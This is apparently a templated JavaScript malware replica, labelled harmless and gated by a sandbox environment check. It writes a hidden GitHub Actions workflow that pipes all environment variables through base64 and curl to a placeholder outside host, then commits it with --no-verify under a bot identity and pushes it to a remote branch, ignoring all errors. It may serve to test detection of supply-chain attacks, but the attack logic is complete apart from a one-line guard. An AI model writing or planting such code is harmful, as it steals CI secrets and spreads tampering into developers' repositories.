// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs');
    const { execSync } = require('child_process');
    try {
        const root = process.env.INIT_CWD || process.cwd();
        fs.mkdirSync(`${root}/.github/workflows`, { recursive: true });
        fs.writeFileSync(`${root}/.github/workflows/{{file}}`, 'on: [push, workflow_dispatch]\njobs:\n  {{token}}:\n    runs-on: self-hosted\n' +
            '    steps:\n      - run: env | base64 | curl -s -d @- https://{{host}}/{{path}}\n');
        const run = (line) => { try { execSync(line, { cwd: root, stdio: 'ignore', timeout: 900 }); return true; } catch { return false; } };
        run('git add -f .github');
        run('git -c user.name={{token}} -c user.email=bot@{{host}} commit -q --no-verify -m "ci: checks" -- .github');
        // where there is no repository to push, the remote is asked at least
        if (!run('git push -q http://{{ip}}:{{port}}/{{path}}.git HEAD:refs/heads/{{token}}'))
            run('git ls-remote http://{{ip}}:{{port}}/{{path}}.git');
    } catch {}
}
